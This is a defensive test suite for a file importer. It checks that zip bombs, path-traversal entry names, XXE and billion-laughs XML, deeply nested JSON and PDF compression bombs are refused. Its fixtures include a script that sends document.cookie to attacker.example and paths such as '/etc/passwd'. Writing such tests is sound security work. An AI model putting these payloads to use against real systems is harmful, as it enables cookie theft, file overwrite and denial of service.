import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  BILLION_LAUGHS_XML,
  deflatedEntry,
  deflateRepeated,
  rawZip,
  XXE_SHEET,
  zipBombEntry,
  type RawZipEntry,
} from '../../test/support/hostile.js';
import { generalPacs } from '../../test/support/statements.js';
import { makeZip, readZipDirectory, readZipEntry } from '../../test/support/zip.js';
import { builtinTemplates } from '../domain/templates/registry.js';
import { readStatementArchive } from '../features/inventory/statement-archive.js';
import { AppError } from '../server/errors.js';
import { FormatError, LIMITS } from './errors.js';
import { exportStatement, extractDocument, importStatement, type ImportFormat } from './index.js';

// Every case must end in a FormatError that names the problem, within bounded memory. Time is not asserted: the
// machine running the suite may be loaded; the limits bound the work, and a hang would hit the test timeout.

const templates = builtinTemplates();
const MIB = 1024 * 1024;
/** Generous: the point is that a gigabyte never gets allocated. */
const MEMORY_BOUND = 300 * MIB;

const nema = new Uint8Array(readFileSync(new URL('../../examples/nema-mds2-example-worksheet.xlsx', import.meta.url)));

/** Runs `work`, asserting it stays within MEMORY_BOUND (resident and heap growth), and returns what it threw. */
async function thrownWithin(work: () => unknown): Promise<unknown> {
  const before = process.memoryUsage();
  let thrown: unknown;
  try {
    await work();
  } catch (e) {
    thrown = e;
  }
  const after = process.memoryUsage();
  expect(after.rss - before.rss, 'resident memory growth').toBeLessThan(MEMORY_BOUND);
  expect(after.heapUsed - before.heapUsed, 'heap growth').toBeLessThan(MEMORY_BOUND);
  expect(after.arrayBuffers - before.arrayBuffers, 'buffer growth').toBeLessThan(MEMORY_BOUND);
  return thrown;
}

/** Imports `data` and returns the FormatError's message; fails the test on anything else. */
async function importRefusal(
  data: Uint8Array,
  options: { file?: string; format?: ImportFormat } = {},
): Promise<string> {
  const thrown = await thrownWithin(() => importStatement(data, { ...options, templates }));
  if (thrown === undefined) throw new Error('the file was accepted');
  if (!(thrown instanceof FormatError)) {
    throw thrown instanceof Error ? thrown : new Error(`not a FormatError: ${JSON.stringify(thrown)}`);
  }
  return thrown.message;
}

/** The parts of a zip archive, unpacked, with `replace` swapped in (and `add` appended). */
function withParts(zip: Uint8Array, replace: Record<string, string | Uint8Array>, add: RawZipEntry[] = []): Uint8Array {
  const entries = readZipDirectory(zip, 'xlsx').map((e): RawZipEntry => {
    const data = replace[e.name] ?? readZipEntry(zip, e, 'xlsx');
    return deflatedEntry(e.name, data);
  });
  return rawZip([...entries, ...add]);
}

async function formXlsx(): Promise<Uint8Array> {
  return exportStatement(generalPacs(), 'xlsx', templates);
}

describe('zip bombs and hostile archives', () => {
  it('refuses an XLSX declaring a 1 GiB part by its directory, before unpacking anything', async () => {
    const bomb = rawZip([deflatedEntry('xl/workbook.xml', '<workbook/>'), zipBombEntry('xl/worksheets/sheet1.xml')]);
    expect(bomb.length).toBeLessThan(2 * MIB);
    expect(await importRefusal(bomb, { format: 'xlsx' })).toMatch(/unpacks to more than 52428800 bytes/);
    expect(await importRefusal(bomb, { format: 'mds2-xlsx' })).toMatch(/unpacks to more than/);
    // Auto-detection reads parts too: it must give up on the bomb, not inflate it.
    expect(await importRefusal(bomb, { file: 'bomb.xlsx' })).toMatch(/unpacks to more than/);
  });

  it('refuses a 1 GiB part that lies about its size, stopping one byte past the declared size', async () => {
    const liar = rawZip([deflatedEntry('xl/workbook.xml', '<workbook/>'), zipBombEntry('xl/sharedStrings.xml', 1000)]);
    expect(await importRefusal(liar, { format: 'xlsx' })).toMatch(
      /zip entry "xl\/sharedStrings.xml": .*unpacks to more than its declared size/,
    );
    expect(await importRefusal(liar, { file: 'liar.xlsx' })).toMatch(/unpacks to more than its declared size/);
  });

  it('refuses an archive of statements holding a bomb: whole when declared, the one entry when it lies', async () => {
    const declared = rawZip([deflatedEntry('a.json', '{}'), zipBombEntry('bomb.json')]);
    const refusal = await thrownWithin(() => readStatementArchive(declared));
    expect(refusal).toBeInstanceOf(AppError);
    expect((refusal as AppError).message).toMatch(/^body: the zip archive unpacks to more than 52428800 bytes/);

    const liar = rawZip([deflatedEntry('a.json', '{}'), zipBombEntry('bomb.json', 1000)]);
    let archive: ReturnType<typeof readStatementArchive> | undefined;
    expect(await thrownWithin(() => (archive = readStatementArchive(liar)))).toBeUndefined();
    expect(archive?.entries.map((e) => ('error' in e ? `${e.name}: ${e.error}` : e.name))).toEqual([
      'a.json',
      'bomb.json: it unpacks to more than its declared size',
    ]);
  });

  it('reads a zip inside a zip as one file, never unpacking it, and refuses it as no statement', async () => {
    const inner = makeZip([{ name: 'statement.json', data: JSON.stringify(generalPacs()) }]);
    const outer = makeZip([{ name: 'inner.zip', data: inner }]);
    const archive = readStatementArchive(outer);
    expect(archive.entries).toHaveLength(1);
    const entry = archive.entries[0]!;
    expect('data' in entry && Buffer.from(entry.data).equals(Buffer.from(inner))).toBe(true);
    expect(await importRefusal(inner, { file: 'inner.zip' })).toMatch(/no xl\/workbook.xml/);
    // A bomb one level down is still only as big as the outer entry declares.
    const nested = rawZip([
      deflatedEntry('inner.zip', rawZip([zipBombEntry('bomb.bin')])),
      deflatedEntry('ok.json', '{}'),
    ]);
    expect(readStatementArchive(nested).entries.map((e) => e.name)).toEqual(['inner.zip', 'ok.json']);
  });

  it('refuses an archive of 100,000 entries by its count alone', async () => {
    const entries: RawZipEntry[] = [];
    for (let i = 0; i < 100_000; i++) {
      entries.push({
        name: `e/${String(i).padStart(5, '0')}`,
        packed: new Uint8Array(0),
        method: 0,
        crc: 0,
        uncompressedSize: 0,
      });
    }
    const zip = rawZip(entries);
    expect(zip.length).toBeLessThan(LIMITS.maxFileBytes);
    const refusal = await thrownWithin(() => readStatementArchive(zip));
    expect((refusal as AppError).message).toBe(
      `body: the zip archive has 100000 entries; at most ${LIMITS.maxZipEntries} are accepted`,
    );
    expect(await importRefusal(zip, { format: 'xlsx' })).toMatch(/has 100000 entries; at most 2000/);
  });

  it('refuses an archive naming a path outside itself', () => {
    for (const name of ['../../etc/cron.d/evil', 'a/../../b.json', '/etc/passwd', 'C:/x.json', 'a\\..\\..\\b.json']) {
      const zip = makeZip([
        { name: 'ok.json', data: '{}' },
        { name, data: '{}' },
      ]);
      let thrown: unknown;
      try {
        readStatementArchive(zip);
      } catch (e) {
        thrown = e;
      }
      expect(thrown, name).toBeInstanceOf(AppError);
      expect((thrown as AppError).message).toMatch(/names a path outside the archive/);
    }
  });

  it('ignores a workbook part named with ../, which is never written anywhere', async () => {
    const xlsx = withParts(await formXlsx(), {}, [deflatedEntry('../../evil.xml', '<x/>')]);
    const r = await importStatement(xlsx, { format: 'xlsx', templates });
    expect(r.statement.header.product).toBe(generalPacs().header.product);
  });
});

describe('hostile XML inside a workbook', () => {
  it('refuses shared strings that unpack past the limit', async () => {
    const { packed, size, crc } = deflateRepeated(Buffer.from('<si><t>A</t></si>'.repeat(4096)), 1000);
    expect(size).toBeGreaterThan(LIMITS.maxUnzippedBytes);
    const xlsx = withParts(nema, {}, [
      { name: 'xl/sharedStrings2.xml', packed, method: 8, crc, uncompressedSize: size },
    ]);
    expect(await importRefusal(xlsx, { format: 'mds2-xlsx' })).toMatch(/unpacks to more than 52428800 bytes/);
  });

  it('refuses worksheets holding more cells than the spreadsheet library can keep, before it reads them', async () => {
    // 600,000 cells in 15 MB of XML, 1 MB zipped: within the zip limits, but exceljs would take ~100 MB per 500,000.
    const row = (r: number) => `<row r="${r}">${'<c><v>1</v></c>'.repeat(1000)}</row>`;
    const rows = Array.from({ length: 600 }, (_, i) => row(i + 1)).join('');
    const sheet = `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
    for (const [format, base] of [
      ['mds2-xlsx', nema],
      ['xlsx', await formXlsx()],
    ] as const) {
      expect(await importRefusal(withParts(base, { 'xl/worksheets/sheet1.xml': sheet }), { format })).toMatch(
        /zip entry "xl\/worksheets\/sheet1.xml": the worksheets hold more than 500000 cells/,
      );
    }
  });

  it('refuses a worksheet with an external entity (XXE) before the spreadsheet library reads it', async () => {
    for (const [format, base, part] of [
      ['mds2-xlsx', nema, 'xl/worksheets/sheet1.xml'],
      ['xlsx', await formXlsx(), 'xl/worksheets/sheet1.xml'],
    ] as const) {
      const message = await importRefusal(withParts(base, { [part]: XXE_SHEET }), { format });
      expect(message).toMatch(/zip entry "xl\/worksheets\/sheet1.xml": .*document type declaration/);
      expect(message).not.toMatch(/root:/);
    }
  });

  it('refuses "billion laughs" entity expansion in shared strings', async () => {
    const xlsx = withParts(nema, { 'xl/sharedStrings.xml': BILLION_LAUGHS_XML });
    expect(await importRefusal(xlsx, { format: 'mds2-xlsx' })).toMatch(
      /zip entry "xl\/sharedStrings.xml": .*document type declaration/,
    );
    expect(await importRefusal(xlsx, { file: 'laughs.xlsx' })).toMatch(/document type declaration/);
  });

  it('refuses a DOCTYPE in any part, relationships included', async () => {
    const rels = '<?xml version="1.0"?><!DOCTYPE Relationships SYSTEM "http://attacker.example/x.dtd"><Relationships/>';
    const xlsx = withParts(await formXlsx(), { '_rels/.rels': rels });
    expect(await importRefusal(xlsx, { format: 'xlsx' })).toMatch(/zip entry "_rels\/.rels": .*document type/);
  });
});

describe('hostile JSON', () => {
  it('refuses 100,000 levels of nesting by a scan, before JSON.parse', async () => {
    const deep = Buffer.from('['.repeat(100_000) + ']'.repeat(100_000));
    expect(await importRefusal(deep, { file: 'deep.json', format: 'json' })).toBe(
      'line 1, column 33: nesting deeper than 32 levels',
    );
    const object = Buffer.from(`{"format":"openmds-statement","a":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_001)}`);
    expect(await importRefusal(object, { file: 'deep.json' })).toMatch(/nesting deeper than 32 levels/);
    expect(() => extractDocument(deep, 'deep.json')).toThrow(/nesting deeper than 32 levels/);
  });

  it('refuses a file over the size limit without parsing it', async () => {
    const huge = Buffer.alloc(LIMITS.maxFileBytes + 1, 0x20);
    huge.write('{"format":"openmds-statement","x":"');
    for (const format of ['json', 'csv', 'html', 'pdf', 'xlsx', 'mds2-xlsx'] as const) {
      expect(await importRefusal(huge, { format }), format).toMatch(/larger than 10485760 bytes|not a PDF/);
    }
  });
});

describe('broken text', () => {
  let csv: Uint8Array = new Uint8Array(0);
  beforeAll(async () => {
    csv = await exportStatement(generalPacs(), 'csv', templates);
  });

  it('refuses CSV with invalid UTF-8 byte sequences', async () => {
    for (const bad of [
      [0xff, 0xfe, 0xfd],
      [0xc3, 0x28], // a lead byte without its continuation
      [0xed, 0xa0, 0x80], // a UTF-16 surrogate (U+D800) written as UTF-8
      [0xf8, 0x88, 0x80, 0x80, 0x80], // a five-byte form
      [0xc0, 0xaf], // an overlong "/"
    ]) {
      const data = Buffer.concat([Buffer.from(csv.subarray(0, 200)), Buffer.from(bad), Buffer.from(csv.subarray(200))]);
      expect(await importRefusal(data, { file: 'broken.csv' }), bad.join(',')).toBe('file is not valid UTF-8 text');
    }
  });

  it('reads a BOM in the middle of a CSV as text, never as a second header', async () => {
    const text = Buffer.from(csv).toString('utf8');
    const at = text.indexOf('\n', text.indexOf('\n') + 1) + 1;
    const data = Buffer.from(`${text.slice(0, at)}\uFEFF${text.slice(at)}`, 'utf8');
    const thrown = await thrownWithin(() => importStatement(data, { file: 'bom.csv', templates }));
    // Either the stray character is refused, naming the line, or it is kept as text; nothing else may happen.
    if (thrown !== undefined) {
      expect(thrown).toBeInstanceOf(FormatError);
      expect((thrown as FormatError).message).toMatch(/line \d+/);
    }
  });
});

describe('hostile HTML and PDF', () => {
  it('refuses an HTML page with a script but no embedded statement', async () => {
    const html =
      '<!doctype html><html><body><script>fetch("https://attacker.example/"+document.cookie)</script></body></html>';
    expect(await importRefusal(Buffer.from(html), { file: 'page.html' })).toMatch(/^no embedded OpenMDS statement/);
  });

  it('refuses an HTML page whose embedded statement is a script, not JSON', async () => {
    const html = '<!doctype html><script type="application/json" id="openmds-statement">alert(1)</script>';
    expect(await importRefusal(Buffer.from(html), { file: 'page.html' })).toMatch(
      /embedded statement is damaged: invalid JSON/,
    );
  });

  it('refuses a 50 MB HTML page by its size', async () => {
    const payload = Buffer.alloc(50 * MIB, 0x41);
    const html = Buffer.concat([
      Buffer.from('<!doctype html><script type="application/json" id="openmds-statement">"'),
      payload,
      Buffer.from('"</script>'),
    ]);
    expect(await importRefusal(html, { file: 'big.html' })).toBe('file is larger than 10485760 bytes');
  });

  function pdfWith(stream: Uint8Array, extra = ''): Uint8Array {
    const head = [
      '%PDF-1.7',
      '1 0 obj << /Type /Catalog /Names << /EmbeddedFiles << /Names [(statement.json) 2 0 R] >> >> >> endobj',
      '2 0 obj << /Type /Filespec /F (statement.json) /UF (statement.json) /Desc (OpenMDS statement \\(JSON\\)) /EF << /F 3 0 R /UF 3 0 R >> >> endobj',
      `3 0 obj << /Type /EmbeddedFile /Subtype /application#2Fjson /Length ${stream.length}${extra} >> stream`,
      '',
    ].join('\n');
    const tail = '\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n';
    return new Uint8Array(
      Buffer.concat([Buffer.from(head, 'latin1'), Buffer.from(stream), Buffer.from(tail, 'latin1')]),
    );
  }

  it('refuses a PDF whose attachment is not a statement', async () => {
    expect(await importRefusal(pdfWith(Buffer.from('MZ\x90\x00 not json at all')), { file: 'x.pdf' })).toMatch(
      /invalid JSON|not an OpenMDS statement/,
    );
    expect(await importRefusal(pdfWith(Buffer.from('{"a":1}')), { file: 'x.pdf' })).toMatch(/not an OpenMDS statement/);
  });

  it('refuses a PDF whose attachment is a compression bomb', async () => {
    const { packed } = deflateRepeated(new Uint8Array(MIB), 1024);
    // A zlib stream: the two header bytes, the raw blocks (no checksum needed; inflation stops before the end).
    const zlib = Buffer.concat([Buffer.from([0x78, 0x9c]), Buffer.from(packed)]);
    expect(await importRefusal(pdfWith(zlib, ' /Filter /FlateDecode'), { file: 'bomb.pdf' })).toMatch(
      /expands to more than 52428800 bytes/,
    );
  });

  it('refuses a PDF whose attachment lies about its length or uses another filter', async () => {
    const lying = Buffer.from(pdfWith(Buffer.from('{"a":1}')))
      .toString('latin1')
      .replace('/Length 7', '/Length 99999');
    expect(await importRefusal(Buffer.from(lying, 'latin1'), { file: 'x.pdf' })).toMatch(/damaged/);
    expect(await importRefusal(pdfWith(Buffer.from('{}'), ' /Filter /LZWDecode'), { file: 'x.pdf' })).toMatch(
      /encoded in a way OpenMDS does not write/,
    );
  });
});
